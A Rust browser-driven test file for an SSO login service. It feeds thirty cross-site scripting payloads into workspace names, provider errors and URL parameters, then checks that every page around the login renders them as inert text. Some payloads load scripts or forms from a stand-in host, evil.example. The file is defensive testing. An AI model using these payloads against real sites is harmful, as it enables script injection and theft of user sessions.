//! What others write, on the pages around the login, in a real browser: names of people, workspaces and connections, an address,
//! and what a provider says when it sends somebody back. None of it is ever more than text.

use aisoule_bridge::domain::seat::SeatPolicy;
use serde_json::{Value, json};

use crate::support::hostile_op::{HostileOp, Reply};
use crate::support::parts::{browse, has_browser};
use crate::support::relying::encoded;
use crate::support::scene::connect;
use crate::support::{Bridge, Fresh};

const PAYLOADS: [&str; 30] = [
    "<script>alert(1)</script>",
    "\"><script>alert(2)</script>",
    "'><img src=x onerror=alert(3)>",
    "<img src=x onerror=alert(4)>",
    "<svg onload=alert(5)>",
    "<svg/onload=alert`6`>",
    "</title><script>alert(7)</script>",
    "</textarea></h1><script>alert(8)</script>",
    "<iframe src=\"javascript:alert(9)\"></iframe>",
    "<a href=\"javascript:alert(10)\" autofocus onfocus=alert(10)>x</a>",
    "\" autofocus onfocus=\"alert(11)",
    "' autofocus onfocus='alert(12)",
    "javascript:alert(13)",
    "<body onload=alert(14)>",
    "<details open ontoggle=alert(15)>x</details>",
    "<input autofocus onfocus=alert(16)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(17)>",
    "<style>@import 'javascript:alert(18)';*{color:red}</style>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(19)\">",
    "<base href=\"https://evil.example/\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "{{constructor.constructor('alert(22)')()}}",
    "${alert(23)}{{ frame.proof }}",
    "<!--><script>alert(24)</script>-->",
    "<script src=https://evil.example/x.js></script>",
    "&lt;script&gt;alert(26)&lt;/script&gt;&quot;&#60;",
    "<object data=\"data:text/html,<script>alert(27)</script>\"></object>",
    "<form action=\"https://evil.example\"><button autofocus>x",
    "%3Cscript%3Ealert(29)%3C/script%3E%22%3E",
    "<video><source onerror=alert(30)></video>",
];

/// A workspace, its connection and the provider behind it, each with a payload for a name.
struct Place {
    login: String,
    by_name: String,
    op: HostileOp,
}

async fn places(bridge: &Bridge) -> Vec<Place> {
    let (base, mut places) = (format!("http://{}", bridge.address), Vec::new());
    for (n, payload) in PAYLOADS.iter().enumerate() {
        let workspace = bridge.workspace(payload, 10, SeatPolicy::Reject).await;
        let admin = bridge.key(&workspace, None, None).await;
        let op = HostileOp::start(bridge.app.clock.clone()).await;
        op.plan(|plan| {
            plan.subject = format!("{payload}-{n}");
            plan.userinfo =
                vec![("name", Some(json!(payload))), ("email", Some(json!(format!("person-{n}@x.example"))))];
        });
        let connection = connect(&admin, payload, &op, json!({"auto_create_users": true})).await;
        let query = [
            ("workspace", payload),
            ("email", payload),
            ("return_to", payload),
            ("prompt", &"login"),
            ("way", payload),
        ];
        places.push(Place {
            login: format!("{base}/sso/{connection}/login"),
            by_name: format!("{base}/login?{}", encoded(&query.map(|(name, value)| (name, *value)))),
            op,
        });
    }
    places
}

/// A bridge with these places, and its address; none where there is no browser to look.
async fn scene() -> Option<(Bridge, Vec<Place>, String)> {
    if !has_browser() {
        return None;
    }
    let bridge = Fresh::sqlite().bridge().await;
    let (places, base) = (places(&bridge).await, format!("http://{}", bridge.address));
    Some((bridge, places, base))
}

/// Checks that nothing ran, nothing tried to, and nothing was fetched from anywhere.
#[track_caller]
fn is_quiet(seen: &Value) {
    assert_eq!(seen["ok"], true, "{seen:#}");
    for what in ["dialogs", "csp", "external"] {
        assert_eq!(seen[what], json!([]), "{what}: {seen:#}");
    }
    // A page that refuses somebody says so by its status, which browsers remark on.
    let remarks = seen["console"].as_array().unwrap();
    assert!(remarks.iter().all(|one| one["text"].as_str().unwrap().contains("status of 4")), "{seen:#}");
}

/// Plays a few places at a time, because a play has its time, and checks each.
async fn play(base: &str, plays: Vec<Vec<Value>>) {
    for few in plays.chunks(10) {
        let seen = browse(json!({"url": format!("{base}/login"), "steps": few.concat()})).await;
        is_quiet(&seen);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn thirty_payloads_are_text_on_every_page_around_the_login() {
    let Some((_bridge, places, base)) = scene().await else { return };
    let mut plays = Vec::new();
    for (place, payload) in places.iter().zip(PAYLOADS) {
        let mut steps = Vec::new();
        steps.push(json!({"goto": place.login}));
        steps.push(json!({"arrive": format!("{base}/account")}));
        // It is there to be read, as it is.
        steps.push(json!({"expect": payload}));
        for path in ["/logout", "/account/password", "/account/second-factor"] {
            steps.push(json!({"goto": format!("{base}{path}")}));
        }
        steps.push(json!({"goto": place.by_name}));
        let query = encoded(&[("email", payload), ("workspace", payload)]);
        steps.push(json!({"goto": format!("{base}/password/forgot?{query}")}));
        steps.push(json!({"goto": format!("{base}/password/new?{}", encoded(&[("token", payload)]))}));
        steps.push(json!({"goto": format!("{base}/account?{}", encoded(&[("done", payload)]))}));
        plays.push(steps);
    }
    play(&base, plays).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn thirty_payloads_that_a_provider_sends_back_are_text() {
    let Some((_bridge, places, base)) = scene().await else { return };
    let mut plays = Vec::new();
    for (place, payload) in places.iter().zip(PAYLOADS) {
        let mut steps = Vec::new();
        // The provider sends the browser back with the state that it was given and these words: first that somebody was not let
        // in, then an error of its own.
        let words = |error: &str| encoded(&[("error", error), ("error_description", payload), ("error_uri", payload)]);
        let page = format!(
            "<!doctype html><script>const p = new URLSearchParams(location.search); \
             const said = sessionStorage.been ? '{}' : '{}'; sessionStorage.been = 1; \
             location = p.get('redirect_uri') + '?state=' + encodeURIComponent(p.get('state')) + '&' + said</script>",
            words(payload),
            words("access_denied"),
        );
        let reply = Reply { status: 200, kind: "text/html", body: page.into_bytes(), ..Reply::default() };
        place.op.plan(|plan| {
            plan.replies.insert("authorize", reply);
        });
        let callback = format!("{}callback", place.login.trim_end_matches("login"));
        for said in ["did not let you in", "You could not be signed in"] {
            steps.push(json!({"goto": place.login}));
            steps.push(json!({"arrive": callback}));
            steps.push(json!({"expect": said}));
        }
        let query =
            encoded(&[("state", payload), ("error", payload), ("error_description", payload), ("code", payload)]);
        for page in ["callback", "logged-out"] {
            let page = format!("{}{page}", place.login.trim_end_matches("login"));
            steps.push(json!({"goto": format!("{page}?{query}")}));
        }
        let query =
            encoded(&[("client_id", payload), ("redirect_uri", payload), ("scope", payload), ("state", payload)]);
        steps.push(json!({"goto": format!("{base}/oauth/authorize?{query}")}));
        let query = encoded(&[("iss", payload), ("target_link_uri", payload), ("login_hint", payload)]);
        steps.push(json!({"goto": format!("{}?{query}", place.login)}));
        plays.push(steps);
    }
    play(&base, plays).await;
}
